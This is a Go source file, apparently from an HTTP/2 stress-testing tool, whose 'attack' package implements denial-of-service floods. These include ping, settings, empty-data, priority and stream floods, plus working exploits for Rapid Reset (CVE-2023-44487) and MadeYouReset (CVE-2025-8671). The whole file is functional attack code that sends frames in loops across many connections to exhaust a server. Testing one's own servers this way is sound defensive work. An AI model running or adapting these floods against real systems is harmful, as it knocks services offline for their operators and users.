package attack

import (
	"golang.org/x/net/http2"
)

// lastStream is how many streams a tunnel is used for: before their numbers end.
const lastStream = 1 << 30

// frameAttacks cost little to send and an answer or a look each.
var frameAttacks = []Attack{
	{
		Name: "ping flood", Unit: "frames", run: pingFlood,
		Why: "Each PING wants an answer, which queues up if it is not written.",
	},
	{
		Name: "settings flood", Unit: "frames", run: settingsFlood,
		Why: "Each SETTINGS wants an acknowledgement and may touch every stream.",
	},
	{
		Name: "empty data flood", Unit: "frames", run: emptyData,
		Why: "Frames without a byte cost work that no window limits.",
	},
	{
		Name: "priority flood", Unit: "frames", run: priorityFlood,
		Why: "PRIORITY may name streams that do not exist, and must be looked at.",
	},
}

// streamAttacks make the server begin work that it must give up.
var streamAttacks = []Attack{
	{
		Name: "rapid reset", Unit: "streams", run: rapidReset,
		Why: "A stream that is reset at once does not count as open, but its connection to the application was begun (CVE-2023-44487).",
	},
	{
		Name: "made you reset", Unit: "streams", run: madeYouReset,
		Why: "The server resets the stream itself because of an error, so that no limit of resets by the client applies (CVE-2025-8671).",
	},
	{
		Name: "stream flood", Unit: "streams", run: streamFlood,
		Why: "Streams beyond the limit are refused one by one.",
	},
	{
		Name: "wrong authority", Unit: "streams", run: wrongAuthority,
		Why: "Each request is refused with a response, a record and a line of the log.",
	},
}

func pingFlood(a *attacker) {
	a.tunnels(64, func(t *tunnel) bool { return t.WritePing(false, [8]byte{1}) == nil })
}

func settingsFlood(a *attacker) {
	window := uint32(65535)
	a.tunnels(64, func(t *tunnel) bool {
		window ^= 1
		return t.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}) == nil
	})
}

func emptyData(a *attacker) {
	a.tunnels(64, func(t *tunnel) bool {
		if t.next == 1 {
			t.connect(a.app().String())
		}
		return t.WriteData(1, false, nil) == nil
	})
}

func priorityFlood(a *attacker) {
	a.tunnels(64, func(t *tunnel) bool {
		t.next += 2
		return t.next < lastStream && t.WritePriority(t.next, http2.PriorityParam{StreamDep: 1, Weight: 7}) == nil
	})
}

func rapidReset(a *attacker) {
	a.tunnels(8, func(t *tunnel) bool {
		return t.WriteRSTStream(t.connect(a.app().String()), http2.ErrCodeCancel) == nil && t.next < lastStream
	})
}

func madeYouReset(a *attacker) {
	a.tunnels(8, func(t *tunnel) bool {
		return t.WriteWindowUpdate(t.connect(a.app().String()), 0) == nil && t.next < lastStream
	})
}

func streamFlood(a *attacker) {
	a.tunnels(8, func(t *tunnel) bool {
		t.connect(a.app().String())
		return t.next < lastStream
	})
}

func wrongAuthority(a *attacker) {
	a.tunnels(8, func(t *tunnel) bool {
		t.connect("192.0.2.1:80")
		return t.next < lastStream
	})
}
